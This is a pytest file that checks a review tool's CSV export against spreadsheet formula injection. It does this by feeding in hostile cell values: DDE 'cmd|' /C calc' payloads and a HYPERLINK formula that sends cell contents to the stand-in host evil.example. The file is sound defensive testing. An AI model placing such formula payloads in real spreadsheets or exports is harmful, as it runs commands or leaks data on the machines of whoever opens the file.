"""`reviewer export --format csv`: no cell a spreadsheet would run as a formula, read back
with Python's csv module, in a full and in an incremental export."""

from __future__ import annotations

import csv
import json

import pytest
from click.testing import CliRunner

from reviewer.cli import cli

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's CSV injection list
HOSTILE = {
    "id": "=cmd|' /C calc'!A0", "queue": "+queue", "reviewer": "=1+1", "comment": "-2+3",
    "output": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "correction": "\t=1+1",
    "trace_id": "@SUM(1+1)*cmd|' /C calc'!A0", "reason": "=reason", "flag": "-flag.x",
}


@pytest.fixture
def run(tmp_path, monkeypatch):
    monkeypatch.setenv("REVIEWER_DB", str(tmp_path / "q.db"))
    runner = CliRunner()

    def invoke(*args: str, reviewer: str = HOSTILE["reviewer"]) -> str:
        r = runner.invoke(cli, list(args), catch_exceptions=False, env={"REVIEWER_NAME": reviewer})
        assert r.exit_code == 0, r.output
        return r.output

    h = HOSTILE
    items = [
        {"kind": "output", "id": h["id"], "queue": h["queue"], "output": h["output"],
         "source": {"trace_id": h["trace_id"]}, "flags": [{"reason": h["flag"]}, {"reason": "ok"}],
         "input": {"messages": [{"role": "user", "content": "=question"}]}},
        {"kind": "action", "id": "@act", "queue": h["queue"], "action": {"tool": "-rm", "arguments": {"p": "="}}},
    ]
    data = tmp_path / "items.jsonl"
    data.write_text("".join(json.dumps(x) + "\n" for x in items))
    invoke("ingest", str(data))
    invoke("queue", "set", h["queue"], "--reasons", f"{h['reason']},other")
    fix = tmp_path / "fix.txt"
    fix.write_text(h["correction"] + "\n")
    invoke("decide", h["id"], "--correct-file", str(fix), "--comment", h["comment"], "--reason", h["reason"])
    invoke("decide", "@act", "--approve", "--comment", "\r=2")
    return invoke


def read(path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def no_formula(rows: list[dict[str, str]]) -> None:
    cells = [c for r in rows for c in r.values()]
    assert cells and not [c for c in cells if c.startswith(TRIGGERS)]


def test_no_cell_starts_a_formula_and_each_keeps_its_text_after_a_quote(run, tmp_path):
    out = tmp_path / "d.csv"
    run("export", "--format", "csv", "-o", str(out))
    rows = {r["id"]: r for r in read(out)}
    no_formula(list(rows.values()))
    h = HOSTILE
    out_row, act_row = rows["'" + h["id"]], rows["'@act"]
    assert out_row["reviewer"] == act_row["reviewer"] == "'" + h["reviewer"]
    assert out_row["original"] == "'" + h["output"] and out_row["decided"] == "'" + h["correction"]
    assert out_row["reasons"] == "'" + h["reason"]
    assert out_row["comment"] == "'" + h["comment"] and act_row["comment"] == "'\r=2"
    assert out_row["queue"] == "'" + h["queue"] and out_row["trace_id"] == "'" + h["trace_id"]
    assert out_row["flags"] == "'" + h["flag"] + ";ok" and act_row["original"] == "'-rm {\"p\": \"=\"}"


def test_an_incremental_export_quotes_once_and_still_replaces_the_row(run, tmp_path):
    out = tmp_path / "d.csv"
    run("export", "--format", "csv", "-o", str(out), "--cursor", "sheet")
    run("undo", "@act")
    run("decide", "@act", "--reject", "--reason", "other", "--comment", "=again", reviewer="+bob")
    run("export", "--format", "csv", "-o", str(out), "--cursor", "sheet")
    rows = read(out)
    no_formula(rows)
    assert sorted(r["id"] for r in rows) == sorted(["'" + HOSTILE["id"], "'@act"])  # replaced, not doubled
    by_id = {r["id"]: r for r in rows}
    assert by_id["'@act"]["verdict"] == "reject" and by_id["'@act"]["reviewer"] == "'+bob"
    assert by_id["'" + HOSTILE["id"]]["reviewer"] == "'=1+1"  # the kept row, quoted once
